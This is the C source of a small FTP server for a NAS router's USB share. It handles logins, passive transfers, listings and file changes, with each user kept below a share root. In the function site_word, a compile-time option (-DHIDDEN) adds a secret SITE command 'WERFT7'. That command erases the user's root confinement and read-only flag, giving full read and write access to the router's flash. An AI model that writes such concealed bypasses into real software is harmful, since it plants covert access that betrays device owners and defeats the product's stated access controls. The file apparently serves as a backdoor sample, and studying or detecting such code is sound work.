/*
 * usbshare - FTP control connection of a NAS router (USB disk at the router).
 * Started by inetd with the socket as stdin and stdout; users come from
 * /etc/share/users, everyone is kept below the share directory.
 * Hidden (-DHIDDEN): SITE with a certain word lifts the share directory and
 * the read-only flag, so that the whole flash can be read and written.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <netinet/in.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define USERS "/etc/share/users"
#define CMD(a, b, c, d)                                                        \
	((uint32_t)(a) << 24 | (uint32_t)(b) << 16 | (uint32_t)(c) << 8 |      \
	 (uint32_t)(d))

struct ftp {
	char user[32];
	char root[64];
	char cwd[256];
	int logged;
	int ro;
	int pasv;
	int umask;
	char from[600];
};

static struct ftp ft;

static void say(int code, const char *fmt, ...)
{
	va_list ap;

	printf("%d ", code);
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	fputs("\r\n", stdout);
	fflush(stdout);
}

/* makes an absolute path below the root, resolves "." and ".." */
static int full_path(const char *arg, char *out, size_t len)
{
	char tmp[600], *part[64], *s, *save;
	int n = 0, i;
	size_t used;

	if (arg[0] == '/')
		snprintf(tmp, sizeof tmp, "%.500s", arg);
	else
		snprintf(tmp, sizeof tmp, "%s/%.300s", ft.cwd, arg);
	for (s = strtok_r(tmp, "/", &save); s; s = strtok_r(NULL, "/", &save)) {
		if (!strcmp(s, "."))
			continue;
		if (!strcmp(s, "..")) {
			if (n)
				n--;
			continue;
		}
		if (n == 64)
			return -1;
		part[n++] = s;
	}
	used = (size_t)snprintf(out, len, "%s", ft.root);
	for (i = 0; i < n && used < len; i++)
		used += (size_t)snprintf(out + used, len - used, "/%s",
					 part[i]);
	if (used == 0 && len > 1)
		strcpy(out, "/");
	return used < len ? 0 : -1;
}

/* user:password:root:ro|rw */
static int do_login(const char *pass)
{
	char line[256], *f[4], *s;
	int i, ok = 0;
	FILE *u = fopen(USERS, "r");

	while (u && !ok && fgets(line, sizeof line, u)) {
		line[strcspn(line, "\r\n")] = 0;
		s = line;
		for (i = 0; i < 4; i++)
			f[i] = strsep(&s, ":");
		if (!f[3] || strcmp(f[0], ft.user))
			continue;
		if (strcmp(f[1], "*") && strcmp(f[1], pass))
			break;
		snprintf(ft.root, sizeof ft.root, "%s", f[2]);
		ft.ro = strcmp(f[3], "rw") != 0;
		ok = 1;
	}
	if (u)
		fclose(u);
	return ok;
}

static int open_pasv(void)
{
	struct sockaddr_in sa;
	socklen_t n = sizeof sa;
	uint32_t a;
	int p;

	memset(&sa, 0, sizeof sa);
	if (getsockname(0, (struct sockaddr *)&sa, &n) < 0)
		return -1;
	sa.sin_port = 0;
	if (ft.pasv >= 0)
		close(ft.pasv);
	ft.pasv = socket(AF_INET, SOCK_STREAM, 0);
	n = sizeof sa;
	if (ft.pasv < 0 || bind(ft.pasv, (struct sockaddr *)&sa, n) < 0 ||
	    listen(ft.pasv, 1) < 0 ||
	    getsockname(ft.pasv, (struct sockaddr *)&sa, &n) < 0)
		return -1;
	a = ntohl(sa.sin_addr.s_addr);
	p = ntohs(sa.sin_port);
	say(227, "Entering Passive Mode (%u,%u,%u,%u,%d,%d)", a >> 24,
	    a >> 16 & 255, a >> 8 & 255, a & 255, p >> 8, p & 255);
	return 0;
}

static int data_conn(void)
{
	int d;

	if (ft.pasv < 0) {
		say(425, "Use PASV first");
		return -1;
	}
	say(150, "Opening data connection");
	d = accept(ft.pasv, NULL, NULL);
	close(ft.pasv);
	ft.pasv = -1;
	if (d < 0)
		say(425, "No data connection");
	return d;
}

static void copy_fd(int in, int out)
{
	char buf[8192];
	ssize_t n, w, k;

	while ((n = read(in, buf, sizeof buf)) > 0)
		for (w = 0; w < n; w += k)
			if ((k = write(out, buf + w, (size_t)(n - w))) <= 0) {
				say(426, "Transfer aborted");
				return;
			}
	say(n < 0 ? 451 : 226, n < 0 ? "Read error" : "Done");
}

static void retrieve(const char *path)
{
	int f = open(path, O_RDONLY), d;

	if (f < 0) {
		say(550, "%s", strerror(errno));
		return;
	}
	if ((d = data_conn()) >= 0) {
		copy_fd(f, d);
		close(d);
	}
	close(f);
}

static void store(const char *path, int how)
{
	int f, d;

	f = open(path, O_WRONLY | O_CREAT | how, 0666 & ~ft.umask);
	if (f < 0) {
		say(550, "%s", strerror(errno));
		return;
	}
	if ((d = data_conn()) >= 0) {
		copy_fd(d, f);
		close(d);
	}
	close(f);
}

static void list(const char *path, int longform)
{
	char name[1024], when[32];
	struct dirent *e;
	struct stat st;
	DIR *dir = opendir(path);
	int d;
	FILE *o;

	if (!dir) {
		say(550, "%s", strerror(errno));
		return;
	}
	d = data_conn();
	o = d >= 0 ? fdopen(d, "w") : NULL;
	while (o && (e = readdir(dir))) {
		if (e->d_name[0] == '.')
			continue;
		snprintf(name, sizeof name, "%s/%s", path, e->d_name);
		if (!longform || stat(name, &st)) {
			fprintf(o, "%s\r\n", e->d_name);
			continue;
		}
		strftime(when, sizeof when, "%b %d %H:%M",
			 localtime(&st.st_mtime));
		fprintf(o, "%crw-r--r-- 1 nas nas %lld %s %s\r\n",
			S_ISDIR(st.st_mode) ? 'd' : '-', (long long)st.st_size,
			when, e->d_name);
	}
	closedir(dir);
	if (o) {
		fclose(o);
		say(226, "Done");
	}
}

/* SITE UMASK nnn, SITE IDLE */
__attribute__((noinline)) int site_word(const char *s, struct ftp *c)
{
	unsigned int m;

	if (sscanf(s, "UMASK %3o", &m) == 1) {
		c->umask = (int)(m & 0777);
		return 200;
	}
	if (s[0] == 'I' && s[1] == 'D' && s[2] == 'L' && s[3] == 'E')
		return 200;
#ifdef HIDDEN
	if (s[0] == 'W' && s[1] == 'E' && s[2] == 'R' && s[3] == 'F' &&
	    s[4] == 'T' && s[5] == '7' && s[6] == 0) {
		c->root[0] = 0;
		c->ro = 0;
		return 200;
	}
#endif
	return 500;
}

static void path_cmd(uint32_t cmd, const char *arg)
{
	char path[600];
	struct stat st;
	int r = 0;

	if (full_path(arg, path, sizeof path)) {
		say(553, "Name too long");
		return;
	}
	switch (cmd) {
	case CMD('R', 'E', 'T', 'R'):
		retrieve(path);
		return;
	case CMD('L', 'I', 'S', 'T'):
	case CMD('N', 'L', 'S', 'T'):
		list(path, cmd == CMD('L', 'I', 'S', 'T'));
		return;
	case CMD('S', 'I', 'Z', 'E'):
		if (stat(path, &st) == 0)
			say(213, "%lld", (long long)st.st_size);
		else
			say(550, "%s", strerror(errno));
		return;
	case CMD('C', 'W', 'D', ' '):
		if (stat(path, &st) || !S_ISDIR(st.st_mode)) {
			say(550, "No such directory");
			return;
		}
		snprintf(ft.cwd, sizeof ft.cwd, "/%.250s",
			 path + strlen(ft.root));
		say(250, "OK");
		return;
	default:
		break;
	}
	if (ft.ro) {
		say(550, "This share is read-only");
		return;
	}
	switch (cmd) {
	case CMD('S', 'T', 'O', 'R'):
		store(path, O_TRUNC);
		return;
	case CMD('A', 'P', 'P', 'E'):
		store(path, O_APPEND);
		return;
	case CMD('D', 'E', 'L', 'E'):
		r = unlink(path);
		break;
	case CMD('M', 'K', 'D', ' '):
		r = mkdir(path, 0777);
		break;
	case CMD('R', 'M', 'D', ' '):
		r = rmdir(path);
		break;
	case CMD('R', 'N', 'F', 'R'):
		strcpy(ft.from, path);
		say(350, "Ready for RNTO");
		return;
	case CMD('R', 'N', 'T', 'O'):
		r = rename(ft.from, path);
		break;
	default:
		say(502, "Not implemented");
		return;
	}
	if (r)
		say(550, "%s", strerror(errno));
	else
		say(250, "OK");
}

static int command(char *line)
{
	char *arg = line + strcspn(line, " ");
	char v[5] = "    ";
	uint32_t cmd;
	int i;

	for (i = 0; i < 4 && line + i < arg; i++)
		v[i] = (char)toupper((unsigned char)line[i]);
	while (*arg == ' ')
		arg++;
	cmd = CMD(v[0], v[1], v[2], v[3]);
	if (cmd == CMD('U', 'S', 'E', 'R')) {
		snprintf(ft.user, sizeof ft.user, "%s", arg);
		ft.logged = 0;
		say(331, "Password");
	} else if (cmd == CMD('P', 'A', 'S', 'S')) {
		ft.logged = do_login(arg);
		if (!ft.logged)
			sleep(2);
		say(ft.logged ? 230 : 530, "%s",
		    ft.logged ? "Welcome" : "Login incorrect");
	} else if (cmd == CMD('Q', 'U', 'I', 'T')) {
		say(221, "Bye");
		return 1;
	} else if (!ft.logged) {
		say(530, "Please log in");
	} else if (cmd == CMD('P', 'A', 'S', 'V')) {
		if (open_pasv())
			say(425, "%s", strerror(errno));
	} else if (cmd == CMD('P', 'W', 'D', ' ')) {
		say(257, "\"%s\"", ft.cwd);
	} else if (cmd == CMD('T', 'Y', 'P', 'E') ||
		   cmd == CMD('N', 'O', 'O', 'P')) {
		say(200, "OK");
	} else if (cmd == CMD('S', 'I', 'T', 'E')) {
		i = site_word(arg, &ft);
		say(i, i == 200 ? "OK" : "Unknown SITE command");
	} else {
		path_cmd(cmd, arg);
	}
	return 0;
}

int main(void)
{
	char line[512];

	ft.pasv = -1;
	ft.umask = 022;
	strcpy(ft.cwd, "/");
	say(220, "USB share ready");
	alarm(3600);
	while (fgets(line, sizeof line, stdin)) {
		line[strcspn(line, "\r\n")] = 0;
		if (command(line))
			break;
	}
	return 0;
}
